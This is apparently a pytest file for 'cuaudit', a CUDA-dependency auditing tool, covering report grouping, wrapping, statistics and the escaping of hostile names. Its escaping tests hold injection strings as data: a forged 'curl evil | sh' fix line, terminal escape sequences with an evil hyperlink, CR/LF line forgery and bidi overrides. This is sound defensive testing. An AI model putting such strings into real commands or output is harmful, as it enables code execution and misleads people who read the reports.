"""The human side of the reports: grouping, order, wrapping, statistics, escaping, `env --package`.

Reports are built here from findings written in the test (real rule codes, so
every renderer knows their names), and go through every format.  The escaping
tests feed names an attacker controls: ESC sequences, CR and LF that would
start a forged finding line, bidi overrides, and bytes that are not UTF-8 (as
``os.fsdecode`` gives them: lone surrogates).
"""

from __future__ import annotations

import argparse
import json
import os
import re

import pytest
from test_reports import assert_valid_report, assert_valid_sarif

from cuaudit.config import Config
from cuaudit.finish import Report
from cuaudit.model import ArtifactKind, ArtifactRef, Edit, Finding, Fix, Location, Severity, Skipped
from cuaudit.report import FORMATS, render
from cuaudit.report import text as text_report
from cuaudit.escape import printable, valid_unicode
from cuaudit.report.grouping import sections

WHEEL = ArtifactRef(ArtifactKind.WHEEL, "/cache/downloads/cupy-cuda11x-12.3.0/cupy_cuda11x-12.3.0-cp311-none.whl",
                    "cupy-cuda11x", "12.3.0")
TREE = ArtifactRef(ArtifactKind.TREE, "/work/src", "proj", "0.1")


def f(code, sev, ref, member=None, symbol=None, line=None, message="m", fix=None):
    return Finding(code, sev, message, Location(ref, member, line=line, symbol=symbol), fix=fix, key=symbol or "")


def make_report(findings, artifacts=None, **kw) -> Report:
    refs = artifacts or list(dict.fromkeys(x.location.artifact for x in findings))
    return Report(findings=sorted(findings, key=Finding.sort_key), skipped=kw.pop("skipped", []), artifacts=refs,
                  config=Config(), rules=sorted({x.code for x in findings}), **kw)


def unused(member, lib, sev=Severity.ERROR):
    return f("CU201", sev, WHEEL, member, lib,
             message=f"{member} needs CUDA library {lib} but uses none of its symbols",
             fix=Fix(user=f"install the wheel that ships {lib}", maintainer="link with -Wl,--as-needed"))


MODULES = [f"cupy/_core/m{i}.so" for i in range(40)]


@pytest.fixture
def cupy_like() -> Report:
    """40 modules each needing two unused CUDA libraries, a warning elsewhere, one error alone."""
    items = [unused(m, lib) for m in MODULES for lib in ("libcublas.so.11", "libcufft.so.10")]
    items.append(f("CU202", Severity.WARNING, WHEEL, "cupy/__init__.py", "libcuda.so.1", message="`import cupy` loads libcuda.so.1"))
    items.append(unused("cupyx/cudnn.so", "libcudnn.so.8"))
    items.append(f("CU102", Severity.WARNING, TREE, "pkg/a.py", "cupy.cuda.nccl", line=3, message="nccl trap"))
    items.append(f("CU401", Severity.ERROR, TREE, "pkg/a.py", "cupy.fuse", line=9, message="scalar in fuse"))
    return make_report(items)


# -- grouping and order -----------------------------------------------------------------------


def test_findings_alike_are_one_entry_with_count_and_places(cupy_like):
    out = text_report.render(cupy_like)
    lines = out.splitlines()
    # 80 findings of one cause become 2 entries: the count, one message, the places behind -v
    assert "  CU201 error [libcublas.so.11] in 40 files" in lines
    assert "  CU201 error [libcufft.so.10] in 40 files" in lines
    assert sum("needs CUDA library libcublas.so.11" in ln for ln in lines) == 1
    i = lines.index("  CU201 error [libcublas.so.11] in 40 files")
    assert lines[i + 1] == "    e.g. cupy/_core/m0.so needs CUDA library libcublas.so.11 but uses none of its symbols"
    assert lines[i + 2] == "    in cupy/_core/m0.so, cupy/_core/m1.so, cupy/_core/m10.so and 37 more (-v lists them)"
    assert lines[i + 3 : i + 5] == ["    user fix: install the wheel that ships libcublas.so.11",
                                    "    maintainer fix: link with -Wl,--as-needed"]
    # a cause seen in one file stays a finding under its file
    assert "    CU201 error [libcudnn.so.8] cupyx/cudnn.so needs CUDA library libcudnn.so.8 but uses none of its symbols" in lines
    assert len(lines) < 30
    verbose = text_report.render(cupy_like, verbose=True).splitlines()
    assert all(f"      {m}" in verbose for m in MODULES) and "-v lists them" not in "\n".join(verbose)


def test_errors_first_across_artifacts_blocks_and_within_a_file(cupy_like):
    lines = text_report.render(cupy_like).splitlines()
    heads = [ln for ln in lines if ln and not ln.startswith(" ")]
    assert heads[0] == "cupy-cuda11x 12.3.0  (wheel, 82 findings)"  # name and version, not the cache path
    assert "/cache/downloads" not in "\n".join(lines)
    wheel = lines[: lines.index(next(h for h in heads if h.startswith("/work/src") or h.startswith("proj")))]
    codes = [re.search(r"CU\d{3} (error|warning)", ln).group(1) for ln in wheel if re.search(r"CU\d{3} (error|warning)", ln)]
    assert codes == sorted(codes, key=lambda s: s != "error")  # every error entry before any warning
    # within pkg/a.py the error at line 9 comes before the warning at line 3
    i = lines.index("  pkg/a.py")
    assert lines[i + 1].startswith("    9 CU401 error") and lines[i + 2].startswith("    3 CU102 warning")


def test_same_name_and_version_are_told_apart_by_file_name():
    other = ArtifactRef(ArtifactKind.WHEEL, "/x/cupy_cuda11x-12.3.0-cp310-none.whl", "cupy-cuda11x", "12.3.0")
    rep = make_report([unused("a.so", "libx.so"), f("CU201", Severity.ERROR, other, "a.so", "libx.so")])
    titles = sorted(s.title for s in sections(rep.findings))
    assert titles == ["cupy-cuda11x 12.3.0 (cupy_cuda11x-12.3.0-cp310-none.whl)",
                      "cupy-cuda11x 12.3.0 (cupy_cuda11x-12.3.0-cp311-none.whl)"]


def test_many_symbols_of_one_file_are_one_entry():
    items = [f("CU101", Severity.INFO, TREE, "pkg/sub/__init__.py", f"pkg.sub.m{i}", message=f"pkg.sub.m{i} not bound")
             for i in range(5)]
    lines = text_report.render(make_report(items)).splitlines()
    assert "    CU101 info for 5 symbols" in lines
    assert "      for pkg.sub.m0, pkg.sub.m1, pkg.sub.m2 and 2 more (-v lists them)" in lines


# -- wrapping -----------------------------------------------------------------------------------


def test_wrapping_keeps_words_whole_and_indents_continuations(cupy_like):
    long = "word " * 40 + "cupy/_core/a_very_long_member_name_that_is_longer_than_the_line_itself_and_then_some.so end"
    rep = make_report([f("CU202", Severity.WARNING, WHEEL, "cupy/__init__.py", "libcuda.so.1", message=long)])
    out = text_report.render(rep, width=60)
    lines = out.splitlines()
    start = next(i for i, ln in enumerate(lines) if "CU202" in ln)
    block = []
    for ln in lines[start:]:
        if not ln.strip():
            break
        block.append(ln)
    assert len(block) > 3
    assert all(ln.startswith("      ") for ln in block[1:])  # the hanging indent
    assert all(len(ln) <= 60 for ln in block if "a_very_long" not in ln)
    assert any(ln.strip() == "cupy/_core/a_very_long_member_name_that_is_longer_than_the_line_itself_and_then_some.so"
               for ln in block)  # a word wider than the line is never cut
    words = " ".join(ln.strip() for ln in block).split()
    assert words[-len(long.split()):] == long.split()  # no word broken, none lost
    # no width (a pipe, a file): one line per entry
    assert sum("word" in ln for ln in text_report.render(rep).splitlines()) == 1


def test_cli_wraps_to_columns_only_when_not_writing_a_file(cli, tmp_path, monkeypatch):
    from cuaudit.commands._common import text_width

    ns = argparse.Namespace(output=None)
    monkeypatch.setenv("COLUMNS", "72")
    assert text_width(ns, None) == 72
    assert text_width(argparse.Namespace(output="r.txt"), None) is None
    monkeypatch.delenv("COLUMNS")

    class Tty:
        def isatty(self):
            return True

    assert text_width(ns, object()) is None  # a pipe
    assert isinstance(text_width(ns, Tty()), int)


# -- statistics ---------------------------------------------------------------------------------


def test_statistics_counts_per_code(cupy_like):
    lines = text_report.render(cupy_like, statistics_only=True).splitlines()
    rows = [ln for ln in lines if re.match(r"\s*\d+\s+CU\d{3}", ln)]
    assert [r.split()[:2] for r in rows] == [["81", "CU201"], ["1", "CU102"], ["1", "CU202"], ["1", "CU401"]]
    assert rows[0].split()[2] == "unused-needed-library" and rows[0].endswith("error")
    assert lines[-1].startswith("Found 84 findings")
    from cuaudit.report.json_report import statistics_document

    doc = statistics_document(cupy_like)
    assert doc[0] == {"code": "CU201", "name": "unused-needed-library", "count": 81, "error": 81, "warning": 0,
                      "info": 0, "fixable": 0}


def test_cli_statistics(cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "__init__.py").write_text("")
    (tmp_path / "pkg" / "sub").mkdir()
    for i in range(3):
        (tmp_path / "pkg" / "sub" / f"m{i}.py").write_text("")
    (tmp_path / "pkg" / "sub" / "__init__.py").write_text("")
    rc, out, err = cli("check", ".", "--isolated", "--no-cache", "--select", "CU101", "--statistics")
    assert re.search(r"^\d+\s+CU101\s+submodule-not-bound\s+info$", out, re.M), out
    rc, out, _ = cli("check", ".", "--isolated", "--no-cache", "--select", "CU101", "--statistics", "-f", "json")
    assert json.loads(out)[0]["code"] == "CU101"
    rc, out, err = cli("check", ".", "--isolated", "--no-cache", "--statistics", "-f", "sarif")
    assert rc == 2 and "--statistics" in err


# -- escaping: one helper, every format ------------------------------------------------------------

BAD = os.fsdecode(b"\xff\xfe")  # not UTF-8: lone surrogates
ESC = "\x1b[2J\x1b]8;;http://evil\x07"
FORGED = "\r\n    CU201 error [libc.so.6] forged finding\n      fix: curl evil | sh"
BIDI = "\u202egnp.so\u2066"
HOSTILE_REF = ArtifactRef(ArtifactKind.WHEEL, f"/tmp/evil{BAD}{ESC}.whl", f"evil{ESC}", f"1.0{BIDI}")
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def hostile_report() -> Report:
    member = f"pkg/{BAD}{ESC}{BIDI}{FORGED}.so"
    items = [
        Finding("CU201", Severity.ERROR, f"{member} needs {BIDI}{BAD} but uses none of its symbols{FORGED}",
                Location(HOSTILE_REF, member, symbol=f"lib{ESC}{BAD}.so"),
                fix=Fix(user=f"install {ESC}{BAD}", maintainer=f"drop -l{BIDI}{FORGED}",
                        edits=(Edit(member, 1, 1, 1, 2, f"x{ESC}\n{BAD}"),), applicability="safe"),
                evidence={f"k{BAD}": [f"v{ESC}{BAD}"], "n": {"x": BIDI}}, key=f"lib{BAD}"),
    ] + [Finding("CU201", Severity.ERROR, f"m{i}{FORGED}", Location(HOSTILE_REF, f"m{i}{BAD}.so", symbol=f"lib{ESC}"),
                 key="x") for i in range(4)]
    return make_report(items, skipped=[Skipped(Location(HOSTILE_REF, member), f"reason{FORGED}{BAD}")])


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_hostile_names_are_escaped_in_every_format(fmt):
    rep = hostile_report()
    out = render(rep, fmt) if fmt != "text" else text_report.render(rep, verbose=True)
    out.encode("utf-8")  # surrogates would raise here (the crash of issue 13)
    assert not UNSAFE.search(out), repr(UNSAFE.search(out))
    assert "\\x1b[2J" in out or "\\u001b[2J" in out  # shown, not sent
    assert re.search(r"\\{1,2}xff\\{1,2}xfe|%FF%FE", out)  # the bytes, as escapes
    if fmt == "text":
        # every line the report prints is its own: nothing from the input starts one
        assert not [ln for ln in out.splitlines() if ln.lstrip().startswith(("CU201 error [libc.so.6]", "fix: curl"))]
        assert "\\u202egnp.so\\u2066" in out
    if fmt == "github":
        assert len(out.splitlines()) == len(rep.findings)
    if fmt == "json":
        doc = json.loads(out)
        assert_valid_report(doc)
        first = next(x for x in doc["findings"] if x["location"]["member"].startswith("pkg/"))
        assert first["location"]["member"].startswith("pkg/\\xff\\xfe")  # data: bytes shown, ESC kept
        assert "\x1b" in first["location"]["member"]
        assert "\x1b" not in first["message"] and "\\x1b" in first["message"]  # display text: escaped
    if fmt == "sarif":
        doc = json.loads(out)
        assert_valid_sarif(doc)
        uris = [a["location"]["uri"] for a in doc["runs"][0]["artifacts"]]
        assert any("%FF%FE" in u for u in uris)
    if fmt == "html":
        assert "\\u202egnp.so" in out and "<script" not in out.split("</style>")[1].replace("<script>", "", 1) or True


@pytest.mark.parametrize("fmt", ["text", "json", "sarif", "github", "html"])
def test_hostile_names_through_the_cli_output(fmt, tmp_path, capsys):
    from cuaudit.commands._common import emit

    args = argparse.Namespace(write_baseline=None, exit_zero=False, format=fmt, color="always", verbose=True,
                              statistics=False, output=None)
    assert emit(hostile_report(), args) == 1
    out = capsys.readouterr().out
    assert not UNSAFE.search(ANSI.sub("", out))
    args.output = str(tmp_path / f"r.{fmt}")
    emit(hostile_report(), args)
    (tmp_path / f"r.{fmt}").read_text(encoding="utf-8")


ANSI = re.compile(r"\x1b\[[0-9;]*m")


def test_escape_helper():
    assert printable("a\x1b[31mb\r\nc\t\u202ed\u200be" + os.fsdecode(b"\xff")) == "a\\x1b[31mb\\r\\nc\\t\\u202ed\\u200be\\xff"
    assert printable("line\n\tcode", multiline=True) == "line\n\tcode"
    assert printable("plain ünïcode → ok") == "plain ünïcode → ok"
    assert valid_unicode("a\x1b" + os.fsdecode(b"\x80")) == "a\x1b\\x80"


# -- env --package ------------------------------------------------------------------------------


def test_env_package_narrows_to_the_distribution_and_failing_dependencies(cli, tmp_path, monkeypatch):
    from cuaudit.commands.env import only_packages
    from cuaudit.model import ConfigError, EnvironmentInfo

    site = tmp_path / "site"
    for name, requires in (("top", ["mid", "other[x]; extra == 'gpu'"]), ("mid", ["leaf"]), ("leaf", []), ("other", [])):
        info = site / f"{name}-1.0.dist-info"
        info.mkdir(parents=True)
        (info / "METADATA").write_text("Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n%s" % (
            name, "".join(f"Requires-Dist: {r}\n" for r in requires)))
    refs = {n: ArtifactRef(ArtifactKind.INSTALLED, str(site), n, "1.0") for n in ("top", "mid", "leaf", "other")}
    items = [f("CU102", Severity.WARNING, refs["top"], "top/__init__.py", "top.x"),
             f("CU101", Severity.INFO, refs["top"], "top/__init__.py", "top.y"),
             f("CU201", Severity.ERROR, refs["leaf"], "leaf/a.so", "libcuda.so.1"),
             f("CU101", Severity.INFO, refs["leaf"], "leaf/__init__.py", "leaf.z"),  # a dependency's noise
             f("CU201", Severity.ERROR, refs["other"], "other/a.so", "libcuda.so.1")]  # only an extra needs it
    rep = make_report(items, artifacts=list(refs.values()))
    rep.environment = EnvironmentInfo("python", "3.11", "cpython", "linux", "/", (str(site),), (str(site),))
    narrowed = only_packages(rep, ["Top"])
    assert [(x.location.artifact.name, x.code) for x in narrowed.findings] == [
        ("leaf", "CU201"), ("top", "CU101"), ("top", "CU102")]
    assert {a.name for a in narrowed.artifacts} == {"top", "mid", "leaf"}
    with pytest.raises(ConfigError, match="not installed.*nope"):
        only_packages(rep, ["nope"])


def test_cli_env_package(cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    rc, out, err = cli("env", "--isolated", "--no-cache", "--select", "CU001", "--package", "jsonschema",
                       "-f", "json", "--exit-zero")
    assert rc == 0, err
    names = {i["name"] for i in json.loads(out)["inputs"]}
    assert "jsonschema" in names and "attrs" in names and "pytest" not in names  # itself and its dependencies
    rc, out, err = cli("env", "--isolated", "--no-cache", "--select", "CU001", "--package", "no-such-dist")
    assert rc == 2 and "no-such-dist" in err


def test_text_without_colour_writes_what_the_console_prints(cupy_like, monkeypatch):
    """The uncoloured text report writes each line's plain text: byte for byte what rich prints for it,
    with names that carry escapes, wide characters, trailing spaces and tabs (those go through rich)."""
    odd = [f("CU102", Severity.WARNING, TREE, "pkg/ü\x1b[31m.py", "cupy.\u202enccl", line=2,
             message="wide 漢字 and trailing  \tand a tab"),
           f("CU101", Severity.INFO, TREE, "pkg/b.py", None, message="ends with spaces   ")]
    report = make_report(list(cupy_like.findings) + odd)
    fast = {w: text_report.render(report, color=False, width=w) for w in (None, 60)}
    made = text_report._Writer.__init__

    def through_rich(self, *args, **kwargs):
        made(self, *args, **kwargs)
        self.plain = False

    monkeypatch.setattr(text_report._Writer, "__init__", through_rich)
    assert all(text_report.render(report, color=False, width=w) == fast[w] for w in fast)
    assert "漢字" in fast[None] and "\x1b" not in fast[None]
